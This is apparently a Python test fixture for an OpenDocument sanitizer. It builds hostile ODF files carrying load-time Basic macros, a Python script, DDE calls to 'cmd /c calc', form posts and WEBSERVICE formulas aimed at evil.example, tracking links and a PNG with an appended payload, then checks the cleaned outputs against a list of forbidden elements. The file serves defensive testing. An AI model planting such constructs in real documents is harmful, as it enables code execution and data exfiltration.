"""Build hostile OpenDocument files with zipfile and XML strings; read outputs back independently.

Nothing here shares code with ``sanitizers.odf``: documents are written as text, and
outputs are judged by a zipfile walk and plain ElementTree (``assert_clean``), and by
LibreOffice itself (``converted_text``: the output converted to PDF, its text read by
PDFium).
"""

from __future__ import annotations

import base64
import io
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pypdfium2
import pytest
from PIL import Image

OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
DRAW = "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
FORM = "urn:oasis:names:tc:opendocument:xmlns:form:1.0"
META = "urn:oasis:names:tc:opendocument:xmlns:meta:1.0"
CONFIG = "urn:oasis:names:tc:opendocument:xmlns:config:1.0"
MANIFEST = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
XLINK = "http://www.w3.org/1999/xlink"
DC = "http://purl.org/dc/elements/1.1/"
MEDIA = "application/vnd.oasis.opendocument."

NAMESPACES = {
    "office": OFFICE,
    "style": "urn:oasis:names:tc:opendocument:xmlns:style:1.0",
    "text": TEXT,
    "table": TABLE,
    "draw": DRAW,
    "fo": "urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0",
    "xlink": XLINK,
    "dc": DC,
    "meta": META,
    "number": "urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0",
    "svg": "urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0",
    "form": FORM,
    "script": "urn:oasis:names:tc:opendocument:xmlns:script:1.0",
    "presentation": "urn:oasis:names:tc:opendocument:xmlns:presentation:1.0",
    "anim": "urn:oasis:names:tc:opendocument:xmlns:animation:1.0",
    "smil": "urn:oasis:names:tc:opendocument:xmlns:smil-compatible:1.0",
    "config": CONFIG,
    "ooo": "http://openoffice.org/2004/office",
    "of": "urn:oasis:names:tc:opendocument:xmlns:of:1.2",
    "calcext": "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0",
    "loext": "urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0",
    "officeooo": "http://openoffice.org/2009/office",
    "field": "urn:openoffice:names:experimental:ooo-ms-interop:xmlns:field:1.0",
    "xforms": "http://www.w3.org/2002/xforms",
}
DECLARATIONS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NAMESPACES.items())

#: Text every base document carries; it must survive every rebuild.
TEXTS = ("住民税の通知について", "Residents' tax notice")


def _png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 3), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


PNG = _png()
MACRO_URL = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"
BASIC_MODULE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
    'script:language="StarBasic">Sub Main\n  Shell("calc.exe")\nEnd Sub\n</script:module>'
)
BASIC_LIBRARY = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" '
    'library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/>'
    "</library:library>"
)
BASIC_CONTAINER = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<library:libraries xmlns:library="http://openoffice.org/2000/library" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" '
    'library:link="false"/></library:libraries>'
)
ON_LOAD = (
    '<office:event-listeners><script:event-listener script:language="ooo:script" '
    f'script:event-name="dom:load" xlink:href="{MACRO_URL}" xlink:type="simple"/></office:event-listeners>'
)
BASIC_MEMBERS = {
    "Basic/Standard/Module1.xml": BASIC_MODULE.encode(),
    "Basic/Standard/script-lb.xml": BASIC_LIBRARY.encode(),
    "Basic/script-lc.xml": BASIC_CONTAINER.encode(),
}


@dataclass
class Document:
    """An OpenDocument as parts of text; ``write`` makes a package of it, ``write_flat`` one file."""

    kind: str  # "text", "spreadsheet" or "presentation"
    body: str
    scripts: str = ""  # inside office:scripts
    forms: str = ""  # inside office:forms, before the body's content (text documents)
    styles: str = ""  # inside office:styles
    meta: str = ""  # inside office:meta
    settings: str = ""  # inside office:settings
    members: dict[str, bytes] = field(default_factory=dict)
    manifest: dict[str, str] = field(default_factory=dict)  # extra entries: path → media type
    manifest_inside: str = ""  # extra XML inside the manifest's root entry
    mimetype: str = ""  # instead of the kind's
    mimetype_first: bool = True
    content_prefix: str = ""  # before the root element of content.xml (a DOCTYPE)

    @property
    def media_type(self) -> str:
        return self.mimetype or MEDIA + self.kind

    def content_xml(self) -> str:
        return (
            f'<?xml version="1.0" encoding="UTF-8"?>\n{self.content_prefix}'
            f'<office:document-content {DECLARATIONS} office:version="1.3">'
            f"{self._scripts()}{self._body()}</office:document-content>"
        )

    def _scripts(self) -> str:
        return f"<office:scripts>{self.scripts}</office:scripts>" if self.scripts else ""

    def _body(self) -> str:
        forms = f"<office:forms>{self.forms}</office:forms>" if self.forms else ""
        return f"<office:body><office:{self.kind}>{forms}{self.body}</office:{self.kind}></office:body>"

    def styles_xml(self) -> str:
        return (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-styles {DECLARATIONS} office:version="1.3">'
            f"<office:styles>{self.styles}</office:styles></office:document-styles>"
        )

    def meta_xml(self) -> str:
        return (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta {DECLARATIONS} office:version="1.3">'
            f"<office:meta>{self.meta}</office:meta></office:document-meta>"
        )

    def settings_xml(self) -> str:
        return (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-settings {DECLARATIONS} '
            f'office:version="1.3"><office:settings>{self.settings}</office:settings></office:document-settings>'
        )

    def manifest_xml(self) -> str:
        entries = {"content.xml": "text/xml", "styles.xml": "text/xml", "meta.xml": "text/xml",
                   "settings.xml": "text/xml", **self.manifest}  # fmt: skip
        listed = "".join(
            f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}"/>'
            for path, media in entries.items()
        )
        return (
            f'<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="{MANIFEST}" '
            f'manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:version="1.3" '
            f'manifest:media-type="{self.media_type}">{self.manifest_inside}</manifest:file-entry>{listed}'
            "</manifest:manifest>"
        )

    def flat_xml(self) -> str:
        return (
            f'<?xml version="1.0" encoding="UTF-8"?>\n{self.content_prefix}<office:document {DECLARATIONS} '
            f'office:version="1.3" office:mimetype="{self.media_type}"><office:meta>{self.meta}</office:meta>'
            f"<office:settings>{self.settings}</office:settings>{self._scripts()}"
            f"<office:styles>{self.styles}</office:styles>{self._body()}</office:document>"
        )


def base(kind: str, texts: tuple[str, ...] = TEXTS) -> Document:
    if kind == "text":
        body = "".join(f"<text:p>{text}</text:p>" for text in texts)
    elif kind == "spreadsheet":
        cells = "".join(
            f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'
            for text in texts
        )
        body = f'<table:table table:name="Sheet1"><table:table-row>{cells}</table:table-row></table:table>'
    else:
        frames = "".join(
            f'<draw:frame svg:x="1cm" svg:y="{2 * i + 1}cm" svg:width="10cm" svg:height="1cm">'
            f"<draw:text-box><text:p>{text}</text:p></draw:text-box></draw:frame>"
            for i, text in enumerate(texts)
        )
        body = f'<draw:page draw:name="page1">{frames}</draw:page>'
    return Document(kind, body, meta="<meta:generator>mukaika-tests</meta:generator>")


def write(document: Document, path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        if document.mimetype_first:
            archive.writestr(zipfile.ZipInfo("mimetype"), document.media_type)
        for name, text in (("content.xml", document.content_xml()), ("styles.xml", document.styles_xml()),
                           ("meta.xml", document.meta_xml()), ("settings.xml", document.settings_xml())):  # fmt: skip
            archive.writestr(name, text)
        for name, data in document.members.items():
            archive.writestr(name, data)
        archive.writestr("META-INF/manifest.xml", document.manifest_xml())
        if not document.mimetype_first:
            archive.writestr(zipfile.ZipInfo("mimetype"), document.media_type)
    return path


def write_flat(document: Document, path: Path) -> Path:
    path.write_text(document.flat_xml(), encoding="utf-8")
    return path


Builder = Callable[[Document], None]
EXTENSION = {"text": "odt", "spreadsheet": "ods", "presentation": "odp"}
FLAT_EXTENSION = {"text": "fodt", "spreadsheet": "fods", "presentation": "fodp"}


def build(path: Path, kind: str, *builders: Builder) -> Path:
    document = base(kind)
    for builder in builders:
        builder(document)
    return write(document, path)


# -- hostile constructs --------------------------------------------------------------


def basic_macros(document: Document) -> None:
    """A Basic library, listed in the manifest, run when the document loads."""
    document.members.update(BASIC_MEMBERS)
    document.manifest.update({"Basic/Standard/Module1.xml": "text/xml", "Basic/Standard/script-lb.xml": "text/xml",
                              "Basic/script-lc.xml": "text/xml"})  # fmt: skip
    document.scripts += ON_LOAD


def python_script(document: Document) -> None:
    document.members["Scripts/python/evil.py"] = b"import os\nos.system('calc')\n"
    document.manifest["Scripts/python/evil.py"] = ""


def basic_dialog(document: Document) -> None:
    document.members["Dialogs/Standard/Dialog1.xml"] = (
        b'<dlg:window xmlns:dlg="http://openoffice.org/2000/dialog"/>'
    )


def ui_configuration(document: Document) -> None:
    document.members["Configurations2/accelerator/current.xml"] = (
        b'<accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<accel:item accel:code="KEY_F1" xlink:href="macro:///Standard.Module1.Main"/></accel:acceleratorlist>'
    )


def signature(document: Document) -> None:
    document.members["META-INF/documentsignatures.xml"] = b"<document-signatures/>"


def embedded_font(document: Document) -> None:
    document.members["Fonts/evil.ttf"] = b"\x00\x01\x00\x00" + bytes(200)
    document.styles += (
        '<style:font-face style:name="Evil" svg:font-family="Evil"><svg:font-face-src>'
        '<svg:font-face-uri xlink:href="Fonts/evil.ttf" xlink:type="simple"/></svg:font-face-src></style:font-face>'
    )


def shape_events(document: Document) -> None:
    """A macro bound to clicking a shape (Writer, Calc) or a presentation action (Impress)."""
    listener = (
        '<presentation:event-listener script:event-name="dom:click" presentation:action="execute" '
        'xlink:href="file:///C:/Windows/System32/calc.exe"/>'
        if document.kind == "presentation"
        else f'<script:event-listener script:language="ooo:script" script:event-name="dom:click" xlink:href="{MACRO_URL}"/>'
    )
    shape = (
        '<draw:rect svg:width="2cm" svg:height="1cm" svg:x="0cm" svg:y="0cm">'
        f"<office:event-listeners>{listener}</office:event-listeners><text:p>shape</text:p></draw:rect>"
    )
    _append(document, shape if document.kind != "text" else f"<text:p>{shape}</text:p>")


def macro_field(document: Document) -> None:
    _append_paragraph(
        document,
        f'<text:execute-macro text:name="Main">{ON_LOAD}クリックしてください</text:execute-macro>',
    )


def text_script(document: Document) -> None:
    _append_paragraph(document, '<text:script script:language="JavaScript">app.alert(1)</text:script>')


def form_controls(document: Document) -> None:
    """A form that submits to a server and reads a database, a button running a macro."""
    document.forms += (
        '<form:form form:name="Form" xlink:href="http://evil.example/collect" form:method="post" '
        'form:datasource="Bibliography" form:command="SELECT * FROM biblio" form:command-type="command">'
        '<form:connection-resource xlink:href="sdbc:mysql://evil.example/db"/>'
        '<form:button form:name="Push" form:id="control1" form:label="押す">'
        '<office:event-listeners><script:event-listener script:language="ooo:script" '
        f'script:event-name="form:performaction" xlink:href="{MACRO_URL}"/></office:event-listeners>'
        "</form:button></form:form>"
        '<xforms:model><xforms:instance src="http://evil.example/data.xml"/>'
        '<xforms:submission xforms:id="s" xforms:action="http://evil.example/x"/></xforms:model>'
        '<form:form form:name="Links"><form:button form:name="Web" form:button-type="url" '
        'xlink:href="https://www.city.example.lg.jp/"/><form:button form:name="Local" form:button-type="url" '
        'xlink:href="file:///C:/Windows/System32/calc.exe"/></form:form>'
    )


def embedded_object_with_replacement(document: Document) -> None:
    """An OLE object whose frame also shows its replacement picture."""
    document.members.update(
        {"Object 1/content.xml": b"<office:document-content/>", "ObjectReplacements/Object 1": PNG}
    )
    _append_paragraph(
        document,
        '<draw:frame draw:name="Object1" svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        '<draw:object xlink:href="./Object 1" xlink:type="simple"/>'
        '<draw:image xlink:href="./ObjectReplacements/Object 1" xlink:type="simple"/></draw:frame>',
    )


def ole_object_without_replacement(document: Document) -> None:
    document.members["Object 2"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    _append_paragraph(
        document,
        '<draw:frame draw:name="Ole" svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        '<draw:object-ole xlink:href="./Object 2" xlink:type="simple"/></draw:frame>',
    )


def plugin_applet_frame(document: Document) -> None:
    document.members["Media/clip.mp4"] = b"\x00\x00\x00\x18ftypmp42" + bytes(32)
    _append_paragraph(
        document,
        '<draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        '<draw:plugin xlink:href="Media/clip.mp4" draw:mime-type="application/vnd.sun.star.media"/></draw:frame>'
        '<draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        '<draw:applet xlink:href="http://evil.example/" draw:code="Evil.class"/></draw:frame>'
        '<draw:frame svg:width="2cm" svg:height="2cm" text:anchor-type="as-char">'
        '<draw:floating-frame xlink:href="http://evil.example/page"/></draw:frame>',
    )


def linked_pictures(document: Document) -> None:
    _append_paragraph(
        document,
        '<draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">'
        '<draw:image xlink:href="http://evil.example/track.png" xlink:type="simple"/></draw:frame>'
        '<draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">'
        '<draw:image xlink:href="file://///server/share/secret.png" xlink:type="simple"/></draw:frame>'
        '<draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">'
        '<draw:image xlink:href="../outside.png" xlink:type="simple"/></draw:frame>',
    )
    document.styles += (
        '<draw:fill-image draw:name="Tracker" xlink:href="http://evil.example/fill.png" xlink:type="simple"/>'
    )


def package_pictures(document: Document) -> None:
    """A picture with a payload after its end, one that is no picture, and a bullet picture."""
    document.members["Pictures/payload.png"] = PNG + b"PK\x03\x04 appended archive"
    document.members["Pictures/notapicture.png"] = b"MZ\x90\x00 an executable"
    _append_paragraph(
        document,
        '<draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">'
        '<draw:image xlink:href="Pictures/payload.png" xlink:type="simple"/></draw:frame>'
        '<draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">'
        '<draw:image xlink:href="Pictures/notapicture.png" xlink:type="simple"/></draw:frame>',
    )


def linked_section(document: Document) -> None:
    document.body += (
        '<text:section text:name="Linked"><text:section-source xlink:href="file:///C:/secret.odt" '
        'text:section-name="Private"/><text:p>リンクされた節</text:p></text:section>'
    )


def dde(document: Document) -> None:
    if document.kind == "spreadsheet":
        document.body += (
            '<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" '
            'office:dde-topic="/c calc" office:dde-item="A1"/></table:dde-link></table:dde-links>'
        )
        return
    document.body = (
        '<text:dde-connection-decls><text:dde-connection-decl office:name="Evil" office:dde-application="cmd" '
        'office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls>'
        + document.body
        + '<text:p><text:dde-connection text:connection-name="Evil">DDEの値</text:dde-connection></text:p>'
        '<text:section text:name="Dde"><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc" '
        'office:dde-item="x"/><text:p>DDE節</text:p></text:section>'
    )


def external_data(document: Document) -> None:
    """A sheet linked to another file, an external range, a database range from SQL."""
    document.body = document.body.replace(
        '<table:table table:name="Sheet1">',
        '<table:table table:name="Sheet1"><table:table-source xlink:href="file:///C:/secret.ods" '
        'table:table-name="Sheet1" table:mode="copy-all"/>',
    ) + (
        '<table:database-ranges><table:database-range table:name="Db" table:target-range-address="Sheet1.A1:A2">'
        '<table:database-source-sql table:database-name="Bibliography" table:sql-statement="DROP TABLE x"/>'
        "</table:database-range></table:database-ranges>"
    )
    document.body = document.body.replace(
        "</table:table-row>",
        '<table:table-cell><table:cell-range-source table:name="Ext" xlink:href="http://evil.example/data.ods" '
        'table:filter-name="calc8" table:last-column-spanned="1" table:last-row-spanned="1"/>'
        "</table:table-cell></table:table-row>",
    )


def external_formulas(document: Document) -> None:
    """Formulas that call a web service, start DDE, or read another document; names too."""
    cells = "".join(
        f'<table:table-cell table:formula="{formula}" office:value-type="float" office:value="42">'
        "<text:p>42</text:p></table:table-cell>"
        for formula in (
            "of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/?&quot;&amp;[.A1])",
            "of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A1&quot;)",
            "of:=['file:///C:/secret.ods'#$Sheet1.A1]",
            "of:=['other.ods'#$Sheet1.A1]",
            "of:=SUM([.A1:.B1])",
        )
    )
    document.body = document.body.replace("</table:table-row>", f"{cells}</table:table-row>")
    document.body += (
        '<table:named-expressions><table:named-expression table:name="Leak" '
        'table:expression="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example/&quot;)"/>'
        '<table:named-range table:name="Far" table:base-cell-address="$Sheet1.$A$1" '
        "table:cell-range-address=\"'file:///C:/secret.ods'#$Sheet1.$A$1\"/>"
        "</table:named-expressions>"
    )


def validation_macro(document: Document) -> None:
    document.body = (
        '<table:content-validations><table:content-validation table:name="val1" '
        'table:condition="of:cell-content-is-whole-number()">'
        f'<table:error-macro table:execute="true" xlink:href="{MACRO_URL}"/>'
        "</table:content-validation></table:content-validations>"
    ) + document.body


def animations_with_sound(document: Document) -> None:
    document.body = document.body.replace(
        "</draw:page>",
        '<anim:par presentation:node-type="timing-root"><anim:seq presentation:node-type="main-sequence">'
        '<anim:audio xlink:href="file:///C:/Windows/Media/evil.wav"/>'
        '<anim:command anim:command="verb" smil:targetElement="id1"/></anim:seq></anim:par></draw:page>',
    )


def hyperlinks(document: Document) -> None:
    """Web links stay; links to files, shares, scripts and macros lose their target, not their text."""
    links = "".join(
        f'<text:a xlink:type="simple" xlink:href="{target}">{label}</text:a> '
        for target, label in (
            ("https://www.city.example.lg.jp/", "市のサイト"),
            ("mailto:info@city.example.lg.jp", "メール"),
            ("#Heading", "見出しへ"),
            ("file:///C:/Windows/System32/calc.exe", "電卓"),
            ("\\\\server\\share\\x.exe", "共有"),
            ("javascript:alert(1)", "スクリプト"),
            (MACRO_URL, "マクロ"),
        )
    )
    _append_paragraph(document, links)


def image_map(document: Document) -> None:
    document.members["Pictures/map.png"] = PNG
    _append_paragraph(
        document,
        '<draw:frame svg:width="1cm" svg:height="1cm" text:anchor-type="as-char">'
        '<draw:image xlink:href="Pictures/map.png" xlink:type="simple"/><draw:image-map>'
        '<draw:area-rectangle xlink:href="javascript:alert(1)" svg:x="0cm" svg:y="0cm" svg:width="1cm" svg:height="1cm"/>'
        '<draw:area-rectangle xlink:href="https://www.city.example.lg.jp/" svg:x="0cm" svg:y="0cm" '
        'svg:width="1cm" svg:height="1cm"/></draw:image-map></draw:frame>',
    )


def shape_link(document: Document) -> None:
    """A shape wrapped in a link to a program (Impress's "click to run")."""
    document.body = document.body.replace(
        "<draw:frame ",
        '<draw:a xlink:type="simple" xlink:href="file:///C:/Windows/System32/cmd.exe"><draw:frame ',
        1,
    ).replace("</draw:frame>", "</draw:frame></draw:a>", 1)


def word_field_code(document: Document) -> None:
    _append_paragraph(
        document,
        '<field:fieldmark-start text:name="__Fieldmark__0" field:type="vnd.oasis.opendocument.field.UNHANDLED">'
        '<field:param field:name="vnd.oasis.opendocument.field.code" '
        'field:value=" INCLUDEPICTURE &quot;http://evil.example/t.png&quot; \\d "/></field:fieldmark-start>'
        "フィールドの結果<field:fieldmark-end/>",
    )


def template_and_auto_reload(document: Document) -> None:
    document.meta += (
        '<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:href="file://///server/templates/t.ott" '
        'xlink:title="t"/><meta:auto-reload xlink:href="http://evil.example/next.odt" meta:delay="PT5S"/>'
    )


def risky_settings(document: Document) -> None:
    document.settings += (
        '<config:config-item-set config:name="ooo:view-settings"><config:config-item config:name="ViewAreaTop" '
        'config:type="long">0</config:config-item></config:config-item-set>'
        '<config:config-item-set config:name="ooo:configuration-settings">'
        '<config:config-item config:name="PrinterName" config:type="string">\\\\printserver\\総務課</config:config-item>'
        '<config:config-item config:name="PrinterSetup" config:type="base64Binary">AAAA</config:config-item>'
        '<config:config-item config:name="CurrentDatabaseDataSource" config:type="string">Secret</config:config-item>'
        '<config:config-item config:name="LinkUpdateMode" config:type="short">3</config:config-item>'
        '<config:config-item config:name="AddParaTableSpacing" config:type="boolean">true</config:config-item>'
        '<config:config-item config:name="PrinterIndependentLayout" config:type="string">high-resolution</config:config-item>'
        "</config:config-item-set>"
    )


def xml_base(document: Document) -> None:
    document.body = document.body.replace("<text:p>", '<text:p xml:base="http://evil.example/">', 1)


HOSTILE: dict[str, tuple[tuple[str, ...], Builder, str]] = {
    "basic": (("text", "spreadsheet", "presentation"), basic_macros, "odf.basic_macro"),
    "basic binding": (("text", "spreadsheet", "presentation"), basic_macros, "odf.event_listener"),
    "python script": (("text",), python_script, "odf.script"),
    "dialog": (("text",), basic_dialog, "odf.basic_macro"),
    "ui configuration": (("text",), ui_configuration, "odf.ui_configuration"),
    "signature": (("text",), signature, "odf.signature"),
    "embedded font": (("text",), embedded_font, "odf.embedded_font"),
    "shape events": (("text", "spreadsheet", "presentation"), shape_events, "odf.event_listener"),
    "macro field": (("text",), macro_field, "odf.macro_field"),
    "text script": (("text",), text_script, "odf.script"),
    "form submission": (("text",), form_controls, "odf.form_submission"),
    "form database": (("text",), form_controls, "odf.database_connection"),
    "form button macro": (("text",), form_controls, "odf.event_listener"),
    "embedded object": (("text",), embedded_object_with_replacement, "odf.embedded_object"),
    "ole object": (("text",), ole_object_without_replacement, "odf.embedded_object"),
    "plugin": (("text",), plugin_applet_frame, "odf.plugin"),
    "applet": (("text",), plugin_applet_frame, "odf.applet"),
    "floating frame": (("text",), plugin_applet_frame, "odf.floating_frame"),
    "media": (("text",), plugin_applet_frame, "odf.media"),
    "linked pictures": (("text",), linked_pictures, "odf.linked_picture"),
    "picture payload": (("text",), package_pictures, "odf.not_an_image"),
    "linked section": (("text",), linked_section, "odf.linked_section"),
    "dde text": (("text",), dde, "odf.dde_connection"),
    "dde sheet": (("spreadsheet",), dde, "odf.dde_connection"),
    "external data": (("spreadsheet",), external_data, "odf.external_data"),
    "database range": (("spreadsheet",), external_data, "odf.database_connection"),
    "external formulas": (("spreadsheet",), external_formulas, "odf.external_formula"),
    "validation macro": (("spreadsheet",), validation_macro, "odf.macro_binding"),
    "presentation sound": (("presentation",), animations_with_sound, "odf.media"),
    "animation command": (("presentation",), animations_with_sound, "odf.animation_command"),
    "hyperlinks": (("text", "spreadsheet"), hyperlinks, "odf.hyperlink"),
    "image map": (("text",), image_map, "odf.hyperlink"),
    "shape link": (("presentation",), shape_link, "odf.hyperlink"),
    "word field": (("text",), word_field_code, "odf.field"),
    "template": (("text",), template_and_auto_reload, "odf.template"),
    "auto reload": (("text",), template_and_auto_reload, "odf.auto_reload"),
    "printer": (("text",), risky_settings, "odf.printer_settings"),
    "settings database": (("text",), risky_settings, "odf.database_connection"),
}
#: Every hostile construct at once, for the documents LibreOffice is asked to open.
EVERYTHING = {
    kind: list(dict.fromkeys(builder for kinds, builder, _ in HOSTILE.values() if kind in kinds))
    for kind in ("text", "spreadsheet", "presentation")
}


def _append(document: Document, markup: str) -> None:
    if document.kind == "spreadsheet":
        document.body = document.body.replace(
            "</table:table-row>", f"<table:table-cell>{markup}</table:table-cell></table:table-row>", 1
        )
    elif document.kind == "presentation":
        document.body = document.body.replace("</draw:page>", f"{markup}</draw:page>", 1)
    else:
        document.body += markup


def _append_paragraph(document: Document, markup: str) -> None:
    _append(document, f"<text:p>{markup}</text:p>")


# -- reading outputs back, independently ------------------------------------------------

#: Local names of elements no rebuilt document may hold, in any namespace.
FORBIDDEN_ELEMENTS = frozenset(
    {"scripts", "script", "event-listeners", "event-listener", "execute-macro", "dde-source",
     "dde-connection-decls", "dde-connection-decl", "dde-connection", "dde-links", "dde-link", "section-source",
     "table-source", "cell-range-source", "database-source-sql", "database-source-table", "database-source-query",
     "connection-resource", "submission", "error-macro", "object", "object-ole", "plugin", "applet",
     "floating-frame", "font-face-src", "font-face-uri", "audio", "sound", "command", "template", "auto-reload"}
)  # fmt: skip
ALLOWED_MEMBERS = re.compile(
    r"mimetype|content\.xml|styles\.xml|meta\.xml|settings\.xml|META-INF/manifest\.xml|Pictures/[^/]+"
    r"|Thumbnails/thumbnail\.png"
)
WEB_TARGET = re.compile(r"(https?://|mailto:|#)")


def members(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()


def part(path: Path, name: str) -> ET.Element:
    with zipfile.ZipFile(path) as archive:
        return ET.fromstring(archive.read(name))


def document_root(path: Path) -> ET.Element:
    """content.xml of a package, or the whole flat document."""
    if zipfile.is_zipfile(path):
        return part(path, "content.xml")
    return ET.fromstring(path.read_bytes())


def texts(path: Path) -> str:
    """All text of the document's body, white space collapsed."""
    body = document_root(path).find(f"{{{OFFICE}}}body")
    assert body is not None
    return " ".join("".join(body.itertext()).split())


def local(tag: str) -> str:
    return tag.rpartition("}")[2]


def assert_clean(path: Path) -> None:
    """No member but the allowed ones, ``mimetype`` first and stored, no element that runs,
    embeds or fetches anything, links only to the web, pictures only from the package and
    readable by Pillow to their last byte, a manifest that encrypts nothing."""
    with zipfile.ZipFile(path) as archive:
        infos = archive.infolist()
        assert infos[0].filename == "mimetype" and infos[0].compress_type == zipfile.ZIP_STORED
        assert not infos[0].extra
        names = [info.filename for info in infos]
        assert all(ALLOWED_MEMBERS.fullmatch(name) for name in names), names
        manifest = ET.fromstring(archive.read("META-INF/manifest.xml"))
        assert not any(local(e.tag) in ("encryption-data", "keyinfo") for e in manifest.iter())
        listed = {e.get(f"{{{MANIFEST}}}full-path") for e in manifest.iter(f"{{{MANIFEST}}}file-entry")}
        assert listed == {"/"} | (set(names) - {"mimetype", "META-INF/manifest.xml"})
        for name in names:
            data = archive.read(name)
            if name.startswith(("Pictures/", "Thumbnails/")):
                assert_picture(data)
            elif name.endswith(".xml"):
                assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data
                assert_markup_clean(ET.fromstring(data), set(names))


def assert_flat_clean(path: Path) -> None:
    data = path.read_bytes()
    assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data
    root = ET.fromstring(data)
    assert_markup_clean(root, set())
    for inline in root.iter(f"{{{OFFICE}}}binary-data"):
        assert_picture(base64.b64decode(inline.text or ""))


def assert_markup_clean(root: ET.Element, names: set[str]) -> None:
    for element in root.iter():
        assert local(element.tag) not in FORBIDDEN_ELEMENTS, element.tag
        href = element.get(f"{{{XLINK}}}href")
        if href is not None:
            if local(element.tag) in ("a", "area-rectangle", "area-circle", "area-polygon", "button"):
                assert WEB_TARGET.match(href), href
            else:
                assert href in names and href.startswith("Pictures/"), (element.tag, href)
        for key, value in element.attrib.items():
            assert local(key) != "base", key
            assert local(key) != "src" or "xforms" not in element.tag, (element.tag, value)
            if local(key) in ("formula", "expression", "cell-range-address"):
                lowered = value.lower()
                assert "webservice" not in lowered and "dde(" not in lowered and "'#" not in value, value
        if local(element.tag) == "form":
            assert not {local(k) for k in element.attrib} & {"href", "command", "datasource"}
        if local(element.tag) == "param":
            assert "INCLUDEPICTURE" not in element.get(f"{{{NAMESPACES['field']}}}value", "")


def assert_picture(data: bytes) -> None:
    with Image.open(io.BytesIO(data)) as image:
        image.load()
    if data.startswith(b"\x89PNG"):
        assert data.endswith(b"IEND\xaeB`\x82"), "data after the PNG's end"


# -- LibreOffice ------------------------------------------------------------------------


def soffice() -> str:
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.skip("LibreOffice is not installed")
    return program


def convert(src: Path, target: str, outdir: Path) -> Path:
    """LibreOffice's conversion of ``src`` to ``target`` (an extension, optionally ``ext:filter``)."""
    outdir.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        [soffice(), f"-env:UserInstallation={(outdir / 'profile').as_uri()}", "--headless",
         "--convert-to", target, "--outdir", str(outdir), str(src)],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    converted = outdir / f"{src.stem}.{target.split(':')[0]}"
    assert converted.is_file(), f"LibreOffice wrote no {target} for {src.name}"
    return converted


def converted_text(document: Path, outdir: Path) -> str:
    """The text LibreOffice prints of ``document``: it opened it, laid it out and wrote a PDF."""
    pdf = pypdfium2.PdfDocument(convert(document, "pdf", outdir))
    try:
        assert len(pdf) >= 1
        return "".join("".join(page.get_textpage().get_text_range().split()) for page in pdf)
    finally:
        pdf.close()


def seed_documents(folder: Path) -> list[Path]:
    """One package and one flat document of each kind, with every hostile construct it can hold."""
    made = []
    for kind, extension in EXTENSION.items():
        made.append(build(folder / f"hostile.{extension}", kind, *EVERYTHING[kind]))
        document = base(kind)
        for builder in EVERYTHING[kind]:
            builder(document)
        made.append(write_flat(document, folder / f"hostile.{FLAT_EXTENSION[kind]}"))
    return made
